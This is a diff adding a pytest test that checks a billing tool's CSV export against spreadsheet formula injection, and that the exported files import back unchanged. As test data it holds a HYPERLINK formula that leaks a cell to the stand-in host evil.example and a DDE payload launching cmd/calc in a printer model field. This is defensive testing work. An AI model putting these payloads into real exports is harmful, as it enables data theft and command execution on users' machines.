@@ -6,12 +6,14 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+from dataclasses import replace
 from datetime import date
 from pathlib import Path
 
 import pytest
 
 from billing.exchange import ASSIGNMENT_COLUMNS, CONTACT_COLUMNS, CUSTOMER_COLUMNS, DEVICE_COLUMNS
+from collectors.base import DeviceInfo
 from daemon.storage.audit import find_audit
 from daemon.storage.billing import BillingStore
 from daemon.storage.repository import Store
@@ -193,3 +195,36 @@ async def test_the_deployments_own_fields_and_required_fields_travel_in_the_csv(
     capsys.readouterr()
     assert await asyncio.to_thread(cli, config, "customers", "show", "ACME") == 0
     assert "Wants colour pages capped" in capsys.readouterr().out
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
+
+
+async def test_a_formula_in_a_cell_is_exported_as_text_kept_intact_and_imported_back_unchanged(
+    store_url: str, config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # A name through `customers import`, a phone and a printer's own model string: each would run as a formula.
+    hostile = replace(daily("KY1", date(2026, 9, 20), 1, mono=10, color=1)[0],
+                      device=DeviceInfo(key="KY1", vendor="Kyocera", model="@SUM(1+1)*cmd|' /C calc'!A0"))  # fmt: skip
+    await _ready(store_url, config, [hostile], "KY1")
+    card = _card("EVIL", HYPERLINK, "DE", "EUR", "-Berlin") | {"trade_name": "'=already quoted", "notes": "\tTab"}
+    source = _files(tmp_path / "in", [card], [_contact("EVIL", "+49 30 1234567") | {"phone": "+49 30 1234567"}])
+    assert await asyncio.to_thread(cli, config, "customers", "import", str(source), "--by", "carla") == 0
+    async with Store.open(store_url) as store:
+        stored = (await BillingStore(store).book()).customers["EVIL"]
+    # A ' typed before a formula means "text" in a spreadsheet: it is taken off, as a spreadsheet would.
+    assert (stored.legal_name, stored.trade_name, stored.address.city) == (HYPERLINK, "=already quoted", "-Berlin")
+    exported = tmp_path / "out"
+    assert await asyncio.to_thread(cli, config, "customers", "export", str(exported)) == 0
+    [row] = [r for r in csv.DictReader(io.StringIO((exported / "customers.csv").read_text("utf-8-sig")))
+             if r["code"] == "EVIL"]  # fmt: skip
+    # A leading ' is how a spreadsheet is told "text": the cell shows the formula, it does not run it.
+    assert (row["legal_name"], row["trade_name"], row["city"]) == ("'" + HYPERLINK, "'=already quoted", "'-Berlin")
+    contacts = (exported / "contacts.csv").read_text("utf-8-sig")
+    assert "EVIL,'+49 30 1234567,,ap@example.com,'+49 30 1234567,yes" in contacts
+    assert "KY1,Kyocera,'@SUM(1+1)*cmd|' /C calc'!A0" in (exported / "devices.csv").read_text("utf-8-sig")
+    capsys.readouterr()
+    assert await asyncio.to_thread(cli, config, "customers", "import", str(exported), "--by", "carla") == 0
+    assert "0 changed" in capsys.readouterr().out  # the export reads back as exactly what is stored
+    assert await asyncio.to_thread(cli, config, "readings", "--format", "csv") == 0
+    assert ",KY1,Kyocera,'@SUM(1+1)*cmd|' /C calc'!A0,mono," in capsys.readouterr().out
